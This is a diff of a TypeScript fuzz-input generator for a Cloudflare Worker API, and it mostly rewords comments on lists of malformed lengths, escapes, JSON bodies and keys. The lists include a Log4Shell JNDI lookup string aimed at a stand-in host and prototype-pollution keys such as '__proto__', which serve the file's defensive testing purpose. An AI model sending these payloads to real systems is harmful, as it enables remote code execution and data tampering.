@@ -2,7 +2,10 @@ import type { seeded } from '../random.ts';
 
 export type Random = ReturnType<typeof seeded>;
 
-/** Ways in which an input can be bad. The first ones are kinds of text; `combined` is none: fields as the contract has them. */
+/**
+ * Ways in which an input can be bad. The first ones are kinds of text; `combined` is not: it has fields as defined in
+ * the contract.
+ */
 export const TEXT_KINDS = [
   'length',
   'wildcards',
@@ -19,7 +22,7 @@ export type Kind = (typeof KINDS)[number];
 
 const LONE_HIGH = '\ud800';
 const LONE_LOW = '\udfff';
-/** Lengths around what SQLite, D1, the contract and a request line take. */
+/** Lengths around the limits of SQLite, D1, the contract and a request line. */
 const LENGTHS = [24, 25, 48, 49, 50, 51, 63, 64, 65, 99, 100, 101, 254, 255, 256, 1_000, 2_001, 10_000];
 const WILDCARDS = [
   '%',
@@ -210,7 +213,7 @@ const CODE = [
   'con',
   '${'.concat('jndi:ldap://evil.example}'),
 ];
-/** What stands in an address as it is: broken escapes, overlong forms, escapes of escapes. */
+/** Texts that go into an address unchanged: broken escapes, overlong forms, escapes of escapes. */
 const ESCAPES = [
   '%',
   '%2',
@@ -241,7 +244,7 @@ const ESCAPES = [
   '%EF%BF%BF',
 ];
 
-/** A text of a kind; `most` is the longest that is taken, where it is known. */
+/** A text of a kind; `most` is the maximum length, if known. */
 export function nastyText(kind: TextKind, random: Random, most = 100): string {
   switch (kind) {
     case 'length': {
@@ -266,13 +269,13 @@ export function nastyText(kind: TextKind, random: Random, most = 100): string {
   }
 }
 
-/** One of them, or many in a row. */
+/** One of them, or many repeated. */
 function some(random: Random, pieces: readonly string[], most: number): string {
   const count = random.pick([1, 1, 1, 2, 3, 26, most]);
   return Array.from({ length: count }, () => random.pick(pieces)).join('');
 }
 
-/** Names of keys that mean something to JavaScript, to frameworks or to nobody. */
+/** Keys with a meaning in JavaScript or frameworks, or with none at all. */
 export const NASTY_KEYS = [
   '__proto__',
   'constructor',
@@ -297,7 +300,7 @@ export const NASTY_KEYS = [
 
 const SURROGATE = /^[\ud800-\udfff]$/;
 
-/** A text as an address carries it, lone surrogates too, which encodeURIComponent refuses. */
+/** A text encoded for an address, including lone surrogates, which encodeURIComponent refuses. */
 export function percentEncode(text: string): string {
   return Array.from(text, (mark) => {
     if (/^[A-Za-z0-9\-._~]$/.test(mark)) return mark;
@@ -310,7 +313,7 @@ function bytesOfSurrogate(code: number): number[] {
   return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)];
 }
 
-/** Values that stand where another shape was meant, as JSON text. */
+/** Values of the wrong shape, as JSON text. */
 export const NASTY_JSON = [
   'null',
   '[]',
@@ -338,7 +341,7 @@ export const NASTY_JSON = [
   `${'{"a":'.repeat(500)}1${'}'.repeat(500)}`,
 ] as const;
 
-/** Bodies that are no object of JSON at all. */
+/** Bodies that are not JSON objects. */
 export const NASTY_BODIES = [
   '',
   ' ',
@@ -364,8 +367,8 @@ export const NASTY_BODIES = [
   '{"__proto__":{"x":1}}',
 ] as const;
 
-/** Longest address that Cloudflare passes on, in bytes; of a longer one nothing reaches a worker. */
+/** Longest address that Cloudflare passes on, in bytes; longer requests never reach a worker. */
 const ADDRESS_MAX = 16_000;
 
-/** An address no longer than one that reaches a worker. */
+/** An address short enough to reach a worker. */
 export const fittingAddress = (address: string): string => address.slice(0, ADDRESS_MAX);
